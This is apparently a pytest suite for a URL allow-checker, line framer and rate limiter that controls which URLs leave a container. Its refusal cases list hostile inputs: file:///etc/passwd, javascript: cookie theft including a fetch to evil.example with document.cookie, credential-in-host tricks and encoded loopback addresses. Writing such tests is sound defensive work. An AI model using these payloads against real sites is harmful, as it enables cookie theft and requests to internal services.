"""What may leave the container as a URL: the line check, the framing and the rate limits."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spotidoctor.channels.ratelimit import ThrottledLog, TokenBucket
from spotidoctor.channels.urlcheck import MAX_URL_BYTES, LineFramer, Overlong, UrlKind, check_url


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.mark.parametrize("url, kind, host", [
    (b"https://accounts.spotify.com/en/authorize?client_id=65b7&redirect_uri=http://127.0.0.1:4381/login",
     UrlKind.WEB, "accounts.spotify.com"),
    (b"http://example.org", UrlKind.WEB, "example.org"),
    (b"HTTPS://Example.org:8443/a?b=c#d", UrlKind.WEB, "example.org"),
    (b"https://[2001:db8::1]/x", UrlKind.WEB, "2001:db8::1"),
    (b"https://10.1.2.3/", UrlKind.WEB, "10.1.2.3"),
    (b"spotify:track:4uLU6hMCjMI75M1A2tKUQC", UrlKind.SPOTIFY, ""),
    (b"spotify:user:x:playlist:y", UrlKind.SPOTIFY, ""),
])
def test_accepted(url: bytes, kind: UrlKind, host: str) -> None:
    verdict = check_url(url)
    assert verdict.accepted and verdict.kind is kind and verdict.url == url.decode() and verdict.host == host


@pytest.mark.parametrize("line, reason", [
    (b"file:///etc/passwd", "scheme not allowed"),
    (b"javascript:alert(document.cookie)", "scheme not allowed"),
    (b"data:text/html,<script>x</script>", "scheme not allowed"),
    (b"ftp://example.org/", "scheme not allowed"),
    (b"/etc/passwd", "scheme not allowed"),
    (b"-e https://example.org", "whitespace"),
    (b"https://example.org/a b", "whitespace"),
    (b"https://example.org/\x00evil", "whitespace"),
    (b"https://example.org/\x1b[2J", "whitespace"),
    (b"https://example.org/\r", "whitespace"),
    ("https://exämple.org/".encode(), "non-ASCII"),
    (b"https://example.org\\@evil.com/", "backslash"),
    (b"https:example.org", "no //host"),
    (b"https:///path", "no host"),
    (b"https://user:pw@accounts.spotify.com.evil.com/", "user name"),
    (b"https://accounts.spotify.com@evil.com/", "user name"),
    (b"https://example.org:99999/", "invalid port"),
    (b"https://example.org:x/", "invalid port"),
    (b"https://[::1/", "malformed host"),
    (b"http://localhost:631/admin", "loopback"),
    (b"http://LOCALHOST./", "loopback"),
    (b"http://printer.localhost/", "loopback"),
    (b"http://127.0.0.1:4381/login?code=x", "loopback"),
    (b"http://127.1/", "loopback"),
    (b"http://2130706433/", "loopback"),
    (b"http://0x7f.0.0.1/", "loopback"),
    (b"http://0177.0.0.1/", "loopback"),
    (b"http://0.0.0.0:8080/", "loopback"),
    (b"http://[::1]:631/", "loopback"),
    (b"http://[::ffff:127.0.0.1]/", "loopback"),
    (b"http://1.2.3.4.5/", "malformed IPv4"),
    (b"spotify:", "empty spotify"),
    (b"", "empty"),
])
def test_refused(line: bytes, reason: str) -> None:
    verdict = check_url(line)
    assert not verdict.accepted and verdict.url is None
    assert reason in verdict.reason


def test_length_cap_is_below_pipe_buf_with_the_newline() -> None:
    assert MAX_URL_BYTES + 1 <= 4096
    base = b"https://example.org/"
    assert check_url(base + b"a" * (MAX_URL_BYTES - len(base))).accepted
    too_long = check_url(base + b"a" * (MAX_URL_BYTES - len(base) + 1))
    assert not too_long.accepted and "longer than" in too_long.reason


def test_a_refusal_is_described_by_scheme_and_length_never_the_url() -> None:
    secret = b"javascript:fetch('https://evil.example/?c='+document.cookie)"
    text = check_url(secret).describe()
    assert text.startswith(f"scheme=javascript length={len(secret)}: ")
    assert "evil" not in text and "cookie" not in text
    assert check_url(b"\x00\x01garbage").describe().startswith("scheme=(none) length=9")
    accepted = check_url(b"https://accounts.spotify.com/login?code=SECRET").describe()
    assert accepted == "scheme=https host=accounts.spotify.com length=46" and "SECRET" not in accepted


# -- framing -------------------------------------------------------------------------------------

def test_partial_lines_are_joined_across_reads() -> None:
    framer = LineFramer(100)
    assert framer.feed(b"https://exa") == []
    assert framer.pending == 11
    assert framer.feed(b"mple.org/a\nspot") == [b"https://example.org/a"]
    assert framer.feed(b"ify:x\n\n") == [b"spotify:x", b""]
    assert framer.pending == 0


def test_an_overlong_line_is_reported_once_and_skipped_up_to_its_newline() -> None:
    framer = LineFramer(10)
    assert framer.feed(b"x" * 8) == []
    assert framer.feed(b"y" * 8) == [Overlong(10)]
    assert framer.pending == 0
    assert framer.feed(b"z" * 100_000) == []  # still the same line: discarded, nothing held
    assert framer.pending == 0
    assert framer.feed(b"zz\nok\n") == [b"ok"]


def test_a_line_of_exactly_the_limit_passes() -> None:
    assert LineFramer(5).feed(b"12345\n123456\n") == [b"12345", Overlong(5)]


@given(st.lists(st.binary(max_size=40), max_size=30), st.integers(1, 50))
def test_framing_does_not_depend_on_how_reads_split_the_stream(chunks: list[bytes], limit: int) -> None:
    stream = b"".join(chunks)
    whole = LineFramer(limit).feed(stream)
    framer = LineFramer(limit)
    pieces = [frame for chunk in chunks for frame in framer.feed(chunk)]
    assert pieces == whole
    assert framer.pending <= limit
    assert all(len(f) <= limit for f in pieces if isinstance(f, bytes))


@given(st.binary(max_size=300))
def test_check_url_never_raises_and_accepts_only_printable_ascii(line: bytes) -> None:
    verdict = check_url(line)
    if verdict.accepted:
        assert all(0x21 <= b <= 0x7E for b in line) and verdict.kind is not None


# -- rate limits ---------------------------------------------------------------------------------

def test_token_bucket_allows_a_burst_then_the_rate() -> None:
    clock = FakeClock()
    bucket = TokenBucket(5, 1.0, clock)
    assert [bucket.allow() for _ in range(7)] == [True] * 5 + [False] * 2
    clock.now += 1.0
    assert [bucket.allow(), bucket.allow()] == [True, False]
    clock.now += 100
    assert sum(bucket.allow() for _ in range(10)) == 5  # never more than the burst


def test_token_bucket_debt_and_wait_time() -> None:
    clock = FakeClock()
    bucket = TokenBucket(100, 100.0, clock)
    bucket.spend(300)
    assert bucket.wait_time(50) == pytest.approx(2.5)
    clock.now += 2.5
    assert bucket.wait_time(50) == 0


def test_bucket_rejects_nonsense() -> None:
    with pytest.raises(ValueError):
        TokenBucket(0, 1)


def test_throttled_log_counts_what_it_drops_and_says_so_later() -> None:
    clock = FakeClock()
    lines: list[str] = []
    log = ThrottledLog(lines.append, TokenBucket(2, 0.5, clock))
    for i in range(10):
        log(f"refused {i}")
    assert lines == ["refused 0", "refused 1"]
    clock.now += 2
    log("refused 10")
    assert lines[2:] == ["(8 similar message(s) not logged: too many)", "refused 10"]
    log("refused 11")
    log.flush()
    assert lines[-1] == "(1 similar message(s) not logged: too many)"
